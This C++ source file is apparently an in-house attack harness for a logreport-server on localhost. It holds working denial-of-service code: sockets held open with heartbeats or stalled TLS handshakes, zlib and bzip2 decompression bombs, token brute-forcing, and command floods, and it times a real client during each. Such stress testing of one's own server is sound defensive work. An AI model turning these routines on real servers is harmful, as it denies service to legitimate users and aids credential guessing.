// logreport-attack: the attacks operators' documentation quotes, at full size,
// against a running logreport-server on 127.0.0.1, each with what a real
// client meanwhile gets. One subcommand per attack; each prints its figures
// as "name: value" lines. Exit status 0 when the attack ran, 1 when it could
// not (no server, bad options). Memory of the server is read by the caller
// (VmHWM in /proc/PID/status): this program only attacks and measures clients.
#include <CLI/CLI.hpp>
#include <Ice/Ice.h>
#include <LogServer.h>
#include <malloc.h>
#include <sys/resource.h>
#include <zlib.h>

#include <algorithm>
#include <atomic>
#include <chrono>
#include <cstring>
#include <fstream>
#include <iomanip>
#include <iostream>
#include <mutex>
#include <thread>
#include <vector>

#include "attackSockets.h"
#include "iceRequestBomb.h"
#include "receiptWindow.h"

namespace {

using Clock = std::chrono::steady_clock;

double secondsSince(Clock::time_point start) { return std::chrono::duration<double>(Clock::now() - start).count(); }

void raiseDescriptorLimit() {
    rlimit rl{};
    if (::getrlimit(RLIMIT_NOFILE, &rl) == 0 && rl.rlim_cur < rl.rlim_max) {
        rl.rlim_cur = rl.rlim_max;
        ::setrlimit(RLIMIT_NOFILE, &rl);
    }
}

struct Target {
    int port = 12100;
    std::string source;  // the real client's source address; empty: the attacker's own
    std::string caPem;   // set: the real client speaks TLS
};

// A zlib stream of an error log of fillBytes 'z' after its header, deflated
// piece by piece so that the inflated size never sits in memory.
std::string zlibLog(const std::string& client, uint64_t fillBytes) {
    const std::string head = "--------------------\nversion:1.0;client:" + client +
                             ";clientIP:10.0.0.1;module:m;conferenceID:7;termID:0;\n";
    z_stream z{};
    deflateInit(&z, 9);
    std::string out;
    std::vector<unsigned char> buf(1 << 16);
    const std::string fill(1 << 20, 'z');
    auto feed = [&](const std::string& piece, size_t n, int flush) {
        z.next_in = reinterpret_cast<Bytef*>(const_cast<char*>(piece.data()));
        z.avail_in = static_cast<uInt>(n);
        do {
            z.next_out = buf.data();
            z.avail_out = static_cast<uInt>(buf.size());
            deflate(&z, flush);
            out.append(reinterpret_cast<char*>(buf.data()), buf.size() - z.avail_out);
        } while (z.avail_out == 0);
    };
    feed(head, head.size(), Z_NO_FLUSH);
    for (uint64_t left = fillBytes; left > 0;) {
        const size_t n = static_cast<size_t>(std::min<uint64_t>(left, fill.size()));
        feed(fill, n, Z_NO_FLUSH);
        left -= n;
    }
    feed(fill, 0, Z_FINISH);
    deflateEnd(&z);
    return out;
}

Ice::ByteSeq bytesOf(const std::string& s) { return Ice::ByteSeq(s.begin(), s.end()); }

// Ice in the attacking process: the real client, the bombers and guessers.
class IceClient {
public:
    explicit IceClient(const Target& t) : target_(t) {
        Ice::InitializationData init;
        init.properties = Ice::createProperties();
        init.properties->setProperty("Ice.MessageSizeMax", "0");
        init.properties->setProperty("Ice.Warn.Connections", "0");
        if (!t.caPem.empty()) {
            Ice::registerIceSSL(false);
            init.properties->setProperty("Ice.Plugin.IceSSL", "IceSSL:createIceSSL");
            init.properties->setProperty("IceSSL.CAs", t.caPem);
        }
        ice_ = Ice::CommunicatorHolder(init);
    }
    std::shared_ptr<Log::ClientLogServerPrx> proxy(const std::string& connection, bool realClient) const {
        std::string endpoint = target_.caPem.empty() ? "tcp -h 127.0.0.1" : "ssl -h localhost";
        endpoint += " -p " + std::to_string(target_.port);
        if (realClient && !target_.source.empty()) endpoint += " --sourceAddress " + target_.source;
        auto base = ice_->stringToProxy("Log.ClientLogServer:" + endpoint)->ice_invocationTimeout(60000);
        return Ice::uncheckedCast<Log::ClientLogServerPrx>(base->ice_connectionId(connection));
    }
    // One small command; the time it took, or a negative time and why not.
    double smallCommand(const std::string& connection, std::string& why, const Ice::Context& extra = {}) const {
        static const Ice::ByteSeq data = bytesOf(zlibLog("real", 0));
        Ice::Context ctx = extra;
        ctx["cmdType"] = "reportLog";
        const auto start = Clock::now();
        try {
            proxy(connection, true)->sendCmd(11047, "", data, ctx);
            return secondsSince(start);
        } catch (const Log::CommandFailed& e) {
            why = e.reason;
        } catch (const Ice::Exception& e) {
            why = e.ice_id();
        }
        return -1;
    }

private:
    Target target_;
    Ice::CommunicatorHolder ice_;
};

// Sockets that hold places: each either sends a heartbeat every interval or
// nothing (and, halfHello, half a ClientHello once). Reopened when closed, if asked.
class SocketHolder {
public:
    SocketHolder(int port, int count, bool halfHello) : port_(port), halfHello_(halfHello) {
        for (int i = 0; i < count; ++i) open(i);
    }
    ~SocketHolder() {
        for (int fd : fds_)
            if (fd >= 0) ::close(fd);
    }
    SocketHolder(const SocketHolder&) = delete;
    SocketHolder& operator=(const SocketHolder&) = delete;
    // Closes what the server closed; reopens them if reopen. Returns how many are open.
    int sweep(bool heartbeat, bool reopen) {
        int open = 0;
        for (size_t i = 0; i < fds_.size(); ++i) {
            if (fds_[i] >= 0 && attack::closedByServer(fds_[i])) {
                ::close(fds_[i]);
                fds_[i] = -1;
                ++closedByServer_;
            }
            if (fds_[i] < 0 && reopen) this->open(i);
            if (fds_[i] >= 0) {
                ++open;
                if (heartbeat)
                    ::send(fds_[i], attack::kIceHeartbeat, sizeof attack::kIceHeartbeat, MSG_NOSIGNAL | MSG_DONTWAIT);
            }
        }
        return open;
    }
    long closedByServer() const { return closedByServer_; }
    long connectFailures() const { return connectFailures_; }

private:
    void open(size_t i) {
        if (fds_.size() <= i) fds_.resize(i + 1, -1);
        fds_[i] = attack::connectTo(port_);
        if (fds_[i] < 0) {
            ++connectFailures_;
            return;
        }
        if (halfHello_ && i % 2 == 0)
            ::send(fds_[i], attack::kHalfClientHello, sizeof attack::kHalfClientHello, MSG_NOSIGNAL);
    }
    int port_;
    bool halfHello_;
    std::vector<int> fds_;
    long closedByServer_ = 0;
    long connectFailures_ = 0;
};

// Heartbeat-only or stalled-handshake sockets, and a real client trying once
// a second until it is served or the time is up.
int holdSlots(const Target& t, int sockets, double seconds, bool heartbeat, bool reopen) {
    SocketHolder holder(t.port, sockets, !heartbeat);
    const auto start = Clock::now();
    std::atomic<bool> stop{false};
    std::mutex mutex;
    std::thread attacker([&] {
        while (!stop) {
            {
                std::lock_guard<std::mutex> lock(mutex);
                holder.sweep(heartbeat, reopen);
            }
            std::this_thread::sleep_for(std::chrono::milliseconds(500));
        }
    });
    IceClient client(t);
    int attempts = 0;
    double servedAfter = -1;
    std::string lastWhy;
    while (secondsSince(start) < seconds) {
        ++attempts;
        if (client.smallCommand("real" + std::to_string(attempts), lastWhy) >= 0) {
            servedAfter = secondsSince(start);
            break;
        }
        std::this_thread::sleep_for(std::chrono::seconds(1));
    }
    stop = true;
    attacker.join();
    std::cout << "attacker sockets: " << sockets << (heartbeat ? " sending heartbeats" : " stalled in the handshake")
              << (reopen ? ", reopened when closed" : "") << "\n";
    std::cout << "closed by the server: " << holder.closedByServer() << "\n";
    std::cout << "connects that failed: " << holder.connectFailures() << "\n";
    std::cout << "real client attempts: " << attempts << "\n";
    if (servedAfter >= 0) {
        std::cout << "real client served after s: " << std::fixed << std::setprecision(1) << servedAfter << "\n";
    } else {
        std::cout << "real client not served within s: " << seconds << " (last: " << lastWhy << ")\n";
    }
    return 0;
}

// count requests of dataMiB zeros each, bzip2-compressed by hand, sent at once on raw sockets.
int bzip2Bombs(const Target& t, int count, uint64_t dataMiB) {
    const std::string message = attack::IceRequestBomb::build(dataMiB << 20);
    if (message.empty()) {
        std::cerr << "logreport-attack: cannot build a request of " << dataMiB << " MiB" << std::endl;
        return 1;
    }
    std::cout << "request bytes on the wire: " << message.size() << " (inflates to " << dataMiB << " MiB)\n";
    std::vector<std::thread> senders;
    std::mutex mutex;
    for (int i = 0; i < count; ++i) {
        senders.emplace_back([&, i] {
            const int fd = attack::connectTo(t.port);
            std::string outcome = "connect failed";
            if (fd >= 0) {
                ::send(fd, message.data(), message.size(), MSG_NOSIGNAL);
                // The server answers with a reply or closes the connection.
                std::string got;
                char buf[4096];
                const auto start = Clock::now();
                timeval tv{5, 0};
                ::setsockopt(fd, SOL_SOCKET, SO_RCVTIMEO, &tv, sizeof tv);
                outcome = "no answer within 300 s";
                while (secondsSince(start) < 300) {
                    const ssize_t n = ::recv(fd, buf, sizeof buf, 0);
                    if (n == 0 || (n < 0 && errno != EAGAIN && errno != EWOULDBLOCK)) {
                        outcome = "connection closed";
                        break;
                    }
                    if (n > 0) got.append(buf, static_cast<size_t>(n));
                    // After the 14-byte validate-connection, a reply (type 2): request id (4), status (1).
                    if (got.size() >= 14 + 19 && got[14 + 8] == 2) {
                        outcome = "reply status " + std::to_string(static_cast<int>(got[14 + 18]));
                        break;
                    }
                }
                outcome += " after s " + std::to_string(secondsSince(start));
                ::close(fd);
            }
            std::lock_guard<std::mutex> lock(mutex);
            std::cout << "request " << i << ": " << outcome << "\n";
        });
    }
    for (auto& s : senders) s.join();
    return 0;
}

// bombers connections sending zlib bombs of inflatedMiB for seconds, and a
// real client's small commands meanwhile, one every 200 ms.
int zlibBombs(const Target& t, int bombers, uint64_t inflatedMiB, double seconds) {
    const Ice::ByteSeq bomb = bytesOf(zlibLog("bomb", inflatedMiB << 20));
    std::cout << "bomb bytes: " << bomb.size() << " (inflates to " << inflatedMiB << " MiB)\n";
    IceClient ice(t);
    std::atomic<bool> stop{false};
    std::atomic<int> answered{0}, busy{0}, failed{0};
    std::vector<std::thread> threads;
    for (int i = 0; i < bombers; ++i) {
        threads.emplace_back([&, i] {
            auto prx = ice.proxy("bomb" + std::to_string(i), false);
            // A terminal id of its own for each: the server would otherwise
            // answer a repeat as a re-send without inflating it.
            for (long n = 0; !stop; ++n) {
                try {
                    const std::string term = std::to_string(i) + "-" + std::to_string(n);
                    prx->sendCmd(11047, "", bomb, Ice::Context{{"cmdType", "reportLog"}, {"TermID", term}});
                    ++answered;
                } catch (const Log::CommandFailed& e) {
                    if (e.reason.rfind("busy", 0) == 0) {
                        ++busy;
                        std::this_thread::sleep_for(std::chrono::milliseconds(20));
                    } else {
                        ++failed;
                    }
                } catch (const Ice::Exception&) {
                    ++failed;
                }
            }
        });
    }
    std::this_thread::sleep_for(std::chrono::seconds(1));
    std::vector<double> latencies;
    int refused = 0;
    const auto start = Clock::now();
    while (secondsSince(start) < seconds) {
        std::string why;
        const double s = ice.smallCommand("real", why);
        if (s >= 0) latencies.push_back(s);
        else ++refused;
        std::this_thread::sleep_for(std::chrono::milliseconds(200));
    }
    stop = true;
    for (auto& th : threads) th.join();
    std::sort(latencies.begin(), latencies.end());
    std::cout << "bombs answered: " << answered << ", refused busy: " << busy << ", failed: " << failed << "\n";
    std::cout << "small commands: " << latencies.size() << " answered, " << refused << " refused\n";
    if (!latencies.empty()) {
        std::cout << std::fixed << std::setprecision(3) << "small command median s: " << latencies[latencies.size() / 2]
                  << "\nsmall command max s: " << latencies.back() << "\n";
    }
    return 0;
}

std::string orgToken(int i) {
    char name[32];
    std::snprintf(name, sizeof name, "org%04d", i);
    return std::string(name) + "-0123456789abcdef";
}

int writeTokens(int count, const std::string& file) {
    std::ofstream out(file);
    for (int i = 0; i < count; ++i) {
        const std::string token = orgToken(i);
        out << token.substr(0, 7) << " " << token << "\n";
    }
    return out ? 0 : 1;
}

// One small command for each organisation in turn, rounds times.
int organisations(const Target& t, int count, int rounds) {
    IceClient ice(t);
    int failures = 0;
    std::string firstWhy;
    const auto start = Clock::now();
    for (int r = 0; r < rounds; ++r) {
        for (int i = 0; i < count; ++i) {
            std::string why;
            if (ice.smallCommand("org", why, {{"Token", orgToken(i)}}) < 0) {
                if (failures++ == 0) firstWhy = why;
            }
        }
    }
    std::cout << "organisations: " << count << " x " << rounds << " rounds in s " << secondsSince(start) << "\n";
    std::cout << "commands failed: " << failures << (failures ? " (first: " + firstWhy + ")" : "") << "\n";
    return 0;
}

// Guessers, each on its own connection, waiting for every answer.
int guessTokens(const Target& t, int guessers, double seconds) {
    IceClient ice(t);
    std::atomic<long> unauthorized{0}, other{0};
    std::mutex mutex;
    std::string otherWhy;
    std::vector<std::thread> threads;
    const auto start = Clock::now();
    for (int g = 0; g < guessers; ++g) {
        threads.emplace_back([&, g] {
            long n = 0;
            while (secondsSince(start) < seconds) {
                std::string why;
                const std::string guess = "guess-" + std::to_string(g) + "-" + std::to_string(n++) + "-0123456789";
                if (ice.smallCommand("guesser" + std::to_string(g), why, {{"Token", guess}}) < 0 && why == "unauthorized") {
                    ++unauthorized;
                } else {
                    ++other;
                    std::lock_guard<std::mutex> lock(mutex);
                    if (otherWhy.empty()) otherWhy = why.empty() ? "accepted" : why;
                }
            }
        });
    }
    for (auto& th : threads) th.join();
    const double took = secondsSince(start);
    std::cout << "guesses answered unauthorized: " << unauthorized << " in s " << took << " by " << guessers
              << " connections\n";
    std::cout << "guesses per second: " << static_cast<double>(unauthorized) / took << "\n";
    std::cout << "other answers: " << other << (other ? " (first: " + otherWhy + ")" : "") << "\n";
    std::cout << "other answers per second: " << static_cast<double>(other) / took << "\n";
    return 0;
}

// count distinct small commands (each with a terminal id of its own) over
// connections connections, as many as the server answers.
int distinctCommands(const Target& t, int count, int connections) {
    IceClient ice(t);
    std::atomic<int> next{0}, failed{0};
    std::vector<std::thread> threads;
    const auto start = Clock::now();
    for (int c = 0; c < connections; ++c) {
        threads.emplace_back([&, c] {
            for (int i = next++; i < count; i = next++) {
                std::string why;
                if (ice.smallCommand("fill" + std::to_string(c), why, {{"TermID", std::to_string(i)}}) < 0) ++failed;
            }
        });
    }
    for (auto& th : threads) th.join();
    std::cout << "commands: " << count << " in s " << secondsSince(start) << ", failed: " << failed << "\n";
    return 0;
}

// Heap in use, by malloc's own count: small blocks and mapped ones (the
// table's bucket array is large enough to be mapped).
size_t heapInUse() {
    const auto info = mallinfo2();
    return info.uordblks + info.hblkhd;
}

// The re-send table filled to its cap, its heap measured by malloc's own count.
int receiptTable() {
    const size_t before = heapInUse();
    {
        logserver::ReceiptWindow window{std::chrono::seconds(600)};
        const size_t cap = logserver::ReceiptWindow::kMaxEntries;
        for (size_t i = 0; i < cap + cap / 10; ++i) {
            const std::string json = std::to_string(i);
            window.remember(logserver::ReceiptWindow::keyOf("", "127.0.0.1", 11047, json, nullptr, 0), i);
        }
        const size_t held = heapInUse() - before;
        std::cout << "entries: " << window.size() << " (cap " << cap << ")\n";
        std::cout << "heap bytes: " << held << " (" << std::fixed << std::setprecision(1)
                  << static_cast<double>(held) / (1 << 20) << " MiB, " << held / window.size() << " bytes an entry)\n";
    }
    return 0;
}

}  // namespace

int main(int argc, char* argv[]) {
    raiseDescriptorLimit();
    CLI::App app{"logreport-attack: full-size attacks on a logreport-server on 127.0.0.1"};
    app.require_subcommand(1);
    Target target;
    int sockets = 1000, count = 1, rounds = 1;
    double seconds = 60;
    uint64_t mib = 1024;
    bool reopen = false;
    std::string file;
    auto withTarget = [&](CLI::App* sub) {
        sub->add_option("--port", target.port, "the server's port")->required();
        sub->add_option("--source", target.source, "the real client's source address (default: the attacker's)");
        return sub;
    };
    auto* heartbeats = withTarget(app.add_subcommand("heartbeats", "sockets that send only heartbeats"));
    heartbeats->add_option("--sockets", sockets)->capture_default_str();
    heartbeats->add_option("--seconds", seconds)->capture_default_str();
    heartbeats->add_flag("--reopen", reopen, "open again what the server closed");
    auto* handshakes = withTarget(app.add_subcommand("handshakes", "sockets stalled in the TLS handshake"));
    handshakes->add_option("--sockets", sockets)->capture_default_str();
    handshakes->add_option("--seconds", seconds)->capture_default_str();
    handshakes->add_option("--ca", target.caPem, "CA of the server's certificate")->required();
    handshakes->add_flag("--reopen", reopen, "open again what the server closed");
    auto* bzip2 = withTarget(app.add_subcommand("bzip2", "requests compressed by Ice's bzip2"));
    bzip2->add_option("--count", count)->capture_default_str();
    bzip2->add_option("--mib", mib, "inflated size of each")->capture_default_str();
    auto* zlib = withTarget(app.add_subcommand("zlib-bombs", "connections sending zlib bombs"));
    zlib->add_option("--count", count)->capture_default_str();
    zlib->add_option("--mib", mib, "inflated size of each")->capture_default_str();
    zlib->add_option("--seconds", seconds)->capture_default_str();
    auto* tokens = app.add_subcommand("write-tokens", "a tokens file of --count organisations");
    tokens->add_option("--count", count)->required();
    tokens->add_option("file", file)->required();
    auto* orgs = withTarget(app.add_subcommand("organisations", "one command per organisation, in turn"));
    orgs->add_option("--count", count)->required();
    orgs->add_option("--rounds", rounds)->capture_default_str();
    auto* guess = withTarget(app.add_subcommand("guess", "wrong tokens as fast as answered"));
    guess->add_option("--count", count, "connections")->capture_default_str();
    guess->add_option("--seconds", seconds)->capture_default_str();
    auto* fill = withTarget(app.add_subcommand("commands", "distinct small commands, as fast as answered"));
    fill->add_option("--count", count)->required();
    fill->add_option("--connections", rounds, "connections at once")->capture_default_str();
    auto* receipts = app.add_subcommand("receipts", "memory of the re-send table at its cap (in this process)");
    CLI11_PARSE(app, argc, argv);

    try {
        if (*heartbeats) return holdSlots(target, sockets, seconds, true, reopen);
        if (*handshakes) return holdSlots(target, sockets, seconds, false, reopen);
        if (*bzip2) return bzip2Bombs(target, count, mib);
        if (*zlib) return zlibBombs(target, count, mib, seconds);
        if (*tokens) return writeTokens(count, file);
        if (*orgs) return organisations(target, count, rounds);
        if (*guess) return guessTokens(target, count, seconds);
        if (*fill) return distinctCommands(target, count, rounds);
        if (*receipts) return receiptTable();
    } catch (const std::exception& e) {
        std::cerr << "logreport-attack: " << e.what() << std::endl;
    }
    return 1;
}
